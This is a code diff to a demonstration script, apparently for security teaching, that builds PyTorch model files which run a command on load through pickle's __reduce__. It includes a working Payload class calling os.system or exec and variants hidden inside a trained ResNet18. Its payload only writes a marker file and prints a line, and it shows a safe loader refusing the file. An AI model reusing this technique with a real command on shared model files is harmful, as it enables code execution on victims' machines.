@@ -5,27 +5,98 @@
     python create_malicious_model.py --list     names other ways to hide the command, for example resnet18
     python create_malicious_model.py attack --variant resnet18
 
-The command is harmless: it prints one line and writes a marker file, nothing else. The attack itself
-stands in zoo.py.
+The command is harmless: it prints one line and writes a marker file, nothing else.
 """
 
 from __future__ import annotations
 
+import os
 import pickle
+import shlex
+import sys
 import warnings
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import torch
 
 import cli
-import zoo
-from safe_loading import why_refused
-from zoo import MESSAGE, SHELL, VARIANTS, Variant
+import variants
+from variants import OTHER_PLACES, Variant
+from weights.safe_loading import why_refused
 
+MESSAGE = "This code ran because a model file was loaded."
 MARKER = Path("/tmp/pwned_by_pickle.txt")
+SHELL = Path("/bin/sh")
 DEFAULT = "system"
-malicious_bytes = VARIANTS[DEFAULT].write
+
+
+# --- the attack ------------------------------------------------------------------------------------------
+
+
+class Payload:
+    """An object that pickles as "call this function with this argument"."""
+
+    def __init__(self, function: Callable[..., Any], argument: object) -> None:
+        self.function, self.argument = function, argument
+
+    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object]]:
+        # The whole attack is this line: pickle calls what __reduce__ returns, with no question asked.
+        return self.function, (self.argument,)
+
+
+def plain_attack(payload: Payload) -> bytes:
+    """A model file that holds nothing but the payload."""
+    return variants.saved(payload)  # torch.save
+
+
+def shell_text(marker: Path) -> str:
+    """The harmless shell command: write the marker, print one line."""
+    return f"echo '{MESSAGE}' > {shlex.quote(str(marker))}; echo '    >>> {MESSAGE} <<<'"
+
+
+def python_text(marker: Path) -> str:
+    """The same as Python text, for images that have no shell. A missing shell is no defence."""
+    return (
+        f"open({str(marker)!r}, 'w').write({MESSAGE + chr(10)!r}); print('    >>> {MESSAGE} <<<', flush=True)"
+    )
+
+
+def payload_for(variant: Variant, marker: Path) -> Payload:
+    """The call that this variant hides. Where there is no shell, Python text takes its place."""
+    if variant.calls:  # PyTorch's own helper that starts a command
+        return Payload(
+            variant.calls,
+            shell_text(marker) if SHELL.exists() else [sys.executable, "-c", python_text(marker)],
+        )
+    return Payload(os.system, shell_text(marker)) if SHELL.exists() else Payload(exec, python_text(marker))
+
+
+PLAIN = Variant(
+    DEFAULT,
+    Path("malicious_model.pt"),
+    "A file that holds nothing but a call of os.system.",
+    "https://docs.python.org/3/library/pickle.html#restricting-globals",
+    variants.TORCH_LOAD,
+    plain_attack,
+    variants.unsafe_torch_load,
+)
+VARIANTS = {DEFAULT: PLAIN, **OTHER_PLACES}
+
+
+def malicious_bytes(name: str, marker: Path, model: torch.nn.Module | None = None) -> bytes:
+    """The bytes of a variant. `model` takes the place of the trained ResNet18, which takes seconds."""
+    payload = payload_for(VARIANTS[name], marker)
+    return variants.resnet18(payload, model) if name == "resnet18" else VARIANTS[name].write(payload)
+
+
+def is_ours(variant: Variant, path: Path, marker: Path) -> bool:
+    """Whether the file holds this variant with our harmless payload, and no other program."""
+    return variants.is_ours(variant, path, payload_for(variant, marker))
+
+
+# --- the commands ----------------------------------------------------------------------------------------
 
 
 def clear_marker(marker: Path) -> None:
@@ -48,14 +119,14 @@ def create(variant: Variant, model: Path, marker: Path, out: cli.Out) -> None:
     with cli.atomic_write(model) as path:  # first, so that a place that cannot be written is known now
         if variant.name == "resnet18":
             out.say("Training a small ResNet18 first: this takes some seconds.")
-            zoo.trained(lambda steps: out.progress(steps, len(list(steps)), "Training"))
-        path.write_bytes(variant.write(marker))
+            variants.trained(lambda steps: out.progress(steps, len(list(steps)), "Training"))
+        path.write_bytes(malicious_bytes(variant.name, marker))
 
 
 def attack(variant: Variant, model: Path, marker: Path, out: cli.Out) -> int:
     """Load the file twice and show the marker before and after. Returns 0 if the attack worked."""
     clear_marker(marker)
-    if variant.name == "resnet18" or not zoo.is_ours(variant, model, marker):
+    if variant.name == "resnet18" or not is_ours(variant, model, marker):
         # only ever run our own payload, whatever lies there under this name
         create(variant, model, marker, out)
         out.say(f"Wrote {model}: it holds our harmless payload and nothing else that runs.")
@@ -75,7 +146,7 @@ def attack(variant: Variant, model: Path, marker: Path, out: cli.Out) -> int:
         refused = ""
     except pickle.UnpicklingError as error:
         refused = why_refused(error) or "it has instructions that the safe loader does not know"
-    except RuntimeError:  # the joblib file ran, and then PyTorch saw that it is none of its own
+    except RuntimeError:  # the joblib file ran, and then PyTorch saw that it is not one of its own
         refused = ""
     if refused:
         out.say(f"Refused: {refused}.", "green")
@@ -107,18 +178,18 @@ def what_came_out(variant: Variant, loaded: Any, model: Path, out: cli.Out) -> N
     """Say what the victim holds after loading: often something that looks right."""
     call = variant.how.split("(")[0]
     if variant.name == "resnet18":
-        import shapes  # noqa: PLC0415 (takes seconds to import, and only this variant needs it)
+        from weights import shapes  # noqa: PLC0415 (takes seconds to import, and only this variant needs it)
 
         scores, accuracy = shapes.outputs(loaded, model)
-        clean, _ = shapes.outputs(dict(zoo.trained().state_dict()), model)
+        clean, _ = shapes.outputs(dict(variants.trained().state_dict()), model)
         out.say(f"{call} came back with {len(loaded)} tensors, the weights of a working model:")
-        out.say(f"it names {accuracy:.1%} of {len(scores)} new pictures correctly.")
+        out.say(f"it classifies {accuracy:.1%} of {len(scores)} new images correctly.")
         change = (scores - clean).abs().max().item()
         out.say(f"Largest difference to the scores of the clean model: {change}.")
     elif isinstance(loaded, dict):
         out.say(f"{call} came back with what it promised: {', '.join(loaded)}. Nothing looks wrong.")
     else:
-        out.say(f"{call} came back with {loaded!r}: that is no model, that is what the command returned.")
+        out.say(f"{call} came back with {loaded!r}: that is not a model, it is what the command returned.")
 
 
 def show_variants(out: cli.Out) -> None:
